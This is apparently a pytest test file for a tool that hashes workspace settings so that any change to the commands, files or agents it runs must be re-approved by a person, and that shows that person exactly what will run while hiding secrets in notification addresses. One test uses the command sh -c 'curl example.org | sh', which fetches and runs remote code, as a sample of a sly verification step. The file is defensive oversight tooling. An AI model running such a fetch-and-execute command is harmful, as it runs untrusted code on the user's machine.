from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tickety.core import settings, trusted, verification, workspace_setup

SETUP = workspace_setup.Setup((("uv", "sync"),), (".env",), ("data",), ("uv.lock",), "uv.lock")
JUDGE = verification.Verification(("pytest", "-q"), "pytest.ini", "")
PLAIN = settings.Settings(
    JUDGE,
    SETUP,
    roster={"Engineer": settings.Filling(("my-agent", "--fast")), "QA": settings.Filling(builtin="checker")},
    extra_environment=("DATABASE_URL",),
    files={"tickety.toml": "[workspace]\n", ".claude/agents/qa.md": "You are QA.\n"},
)

CHANGES = {
    "another verification": replace(PLAIN, verification=replace(JUDGE, argv=("pytest",))),
    "the same words split otherwise": replace(PLAIN, verification=replace(JUDGE, argv=("pytest -q",))),
    "what the verification's command runs": replace(PLAIN, verification=replace(JUDGE, definition="test:\n\ttrue\n")),
    "no verification": replace(PLAIN, verification=None),
    "another set-up": replace(PLAIN, setup=replace(SETUP, commands=(("uv", "sync", "--frozen"),))),
    "one set-up command more": replace(PLAIN, setup=replace(SETUP, commands=(("uv", "sync"), ("make",)))),
    "two commands made one": replace(PLAIN, setup=replace(SETUP, commands=(("uv",), ("sync",)))),
    "no set-up": replace(PLAIN, setup=replace(SETUP, commands=())),
    "another file copied": replace(PLAIN, setup=replace(SETUP, copy=(".env", ".netrc"))),
    "a file linked instead of copied": replace(PLAIN, setup=replace(SETUP, copy=(), share=("data", ".env"))),
    "all files linked instead of copied": replace(PLAIN, setup=replace(SETUP, copy=(), share=(".env", "data"))),
    "another agent": replace(PLAIN, roster={**PLAIN.roster, "Engineer": settings.Filling(("my-agent",))}),
    "the agent in another role": replace(
        PLAIN, roster={"QA": PLAIN.roster["Engineer"], "Engineer": PLAIN.roster["QA"]}
    ),
    "another built-in agent": replace(PLAIN, roster={**PLAIN.roster, "QA": settings.Filling(builtin="mechanic")}),
    "an agent less": replace(PLAIN, roster={"QA": PLAIN.roster["QA"]}),
    "another variable": replace(PLAIN, extra_environment=("DATABASE_URL", "AWS_SECRET_ACCESS_KEY")),
    "a file's text": replace(PLAIN, files={**PLAIN.files, "tickety.toml": "[workspace]\n\n"}),
    "a file's name": replace(PLAIN, files={"tickety.toml": "[workspace]\n", ".claude/agents/ops.md": "You are QA.\n"}),
    "a new file": replace(PLAIN, files={**PLAIN.files, ".tickety/agents/x.md": ""}),
    "a file less": replace(PLAIN, files={"tickety.toml": "[workspace]\n"}),
}


@pytest.mark.parametrize("change", CHANGES)
def test_any_change_to_what_is_run_or_to_a_file_behind_it_must_be_trusted_anew(change: str) -> None:
    assert trusted.stake(CHANGES[change]).digest != trusted.stake(PLAIN).digest


def test_no_two_changes_are_trusted_as_one() -> None:
    digests = {trusted.stake(changed).digest for changed in CHANGES.values()}

    assert len(digests) == len(CHANGES)


@pytest.mark.parametrize(
    "same",
    [
        replace(PLAIN),
        replace(PLAIN, roster=dict(reversed(PLAIN.roster.items()))),
        replace(PLAIN, files=dict(reversed(PLAIN.files.items()))),
        replace(PLAIN, verification=replace(JUDGE, source="tickety.toml")),
        replace(PLAIN, setup_timeout=1.0),
    ],
    ids=["a copy", "another order of roles", "another order of files", "found elsewhere", "another time limit"],
)
def test_what_changes_nothing_that_is_run_need_not_be_trusted_anew(same: settings.Settings) -> None:
    assert trusted.stake(same).digest == trusted.stake(PLAIN).digest


COMMANDS = st.lists(st.lists(st.text('ab ",[]\\'), min_size=1, max_size=3).map(tuple), max_size=3).map(tuple)


@given(COMMANDS, COMMANDS)
def test_two_lists_of_commands_have_one_digest_only_when_they_are_one(
    one: tuple[tuple[str, ...], ...], other: tuple[tuple[str, ...], ...]
) -> None:
    digests = {
        trusted.stake(replace(PLAIN, setup=replace(SETUP, commands=commands))).digest for commands in (one, other)
    }

    assert len(digests) == len({one, other})


def test_a_person_is_shown_everything_that_will_be_run_copied_linked_and_passed() -> None:
    assert trusted.stake(PLAIN).lines == (
        "set-up        uv sync",
        "copied in     .env",
        "linked in     data",
        "passed in     $DATABASE_URL",
        "verification  pytest -q   (pytest.ini)",
        "Engineer      my-agent --fast",
    )


def test_words_with_spaces_are_shown_so_that_nobody_reads_them_as_two() -> None:
    sly = replace(PLAIN, verification=replace(JUDGE, argv=("sh", "-c", "curl example.org | sh")))

    assert "verification  sh -c 'curl example.org | sh'   (pytest.ini)" in trusted.stake(sly).lines


def test_a_project_that_runs_nothing_has_nothing_to_show_but_a_digest() -> None:
    stake = trusted.stake(settings.EMPTY)

    assert stake.lines == ()
    assert len(stake.digest) == 64


def test_whoever_trusts_sees_where_messages_go_and_no_secret_of_it() -> None:
    notify = settings.Notify(
        urls=("mailto://ada:T0ps3cret@example.org",), webhook="https://hooks.example.org/T0ps3cret"
    )

    lines = trusted.stake(replace(PLAIN, notify=notify)).lines
    inner = trusted.stake(replace(PLAIN, notify=replace(notify, allow_private=True))).lines

    assert "messages to   https://hooks.example.org/…" in lines
    assert "messages to   mailto://…" in lines
    assert "messages to   mailto://… (private addresses, too)" in inner
    assert "T0ps3cret" not in "".join((*lines, *inner))
